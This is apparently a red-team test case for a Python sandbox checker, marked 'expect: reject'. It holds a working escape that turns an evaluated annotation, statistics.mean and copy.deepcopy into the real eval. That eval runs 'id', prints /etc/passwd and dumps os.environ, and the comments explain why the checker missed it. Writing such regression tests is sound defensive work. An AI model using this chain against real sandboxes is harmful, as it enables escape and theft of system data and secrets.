# expect: reject class_value
# line: 55
# why: the red team's round 29b ok_03: the annotation 'getter[Ratio]' hands the class Ratio to the program's __getitem__, which reaches statistics.mean and copy.deepcopy to the real eval; an annotation subscript of a program object is no inert annotation
# ok_03 -- goal 1 (full escape: runs `id`, prints /etc/passwd and os.environ);
#          on the way goal 2: the private class typing._GenericAlias, then the
#          real builtins eval (with the real __import__ and open).
#
# Mechanism: an annotation `x: getter[Ratio]` at module level is EVALUATED:
#   Getter.__getitem__(getter, Ratio) runs with the program's class Ratio as a
#   plain parameter.  That is all statistics' class conversion (round 27b/28b)
#   needs: statistics.mean([Odd(1), Ratio]) folds T = type and hands back
#   type(typing.List[int]) = typing._GenericAlias; _GenericAlias(dict, ("eval",),
#   name="__builtins__") deep-copied is operator.getitem(builtins, "eval").
#
# Why the checker missed it: analyzer/stores.c statistics_conversions() refuses
#   statistics.mean only when classes_held() -- "a program that may hold a class
#   of its own as a value" -- and class_value_use() returns early for an
#   identifier whose parent is a tree-sitter `type` or `generic_type` node
#   ("an annotation no reader of the program's hands back").  tree-sitter parses
#   the annotation `getter[Ratio]` as generic_type(identifier, type_parameter(
#   type(Ratio))), i.e. as a generic alias such as list[Ratio]; at run time it is
#   a subscript of ANY object, i.e. a call of the program's __getitem__ (or a
#   __class_getitem__) with the class as argument.  The same text outside an
#   annotation (`getter[Ratio]` as a statement) is refused by class_value.
#   (Same root as ok_01: annotations are evaluated code, and the "plain
#   annotation" judgements read their syntax as types.)
import copy
import statistics
import typing


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    numerator = 1
    denominator = 1


class Getter:
    made = None

    def __getitem__(self, other):
        self.made = statistics.mean([Odd(1), other])
        return int


getter = Getter()
x: getter[Ratio]
maker = getter.made
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
ev("print(dict(__import__('os').environ))")
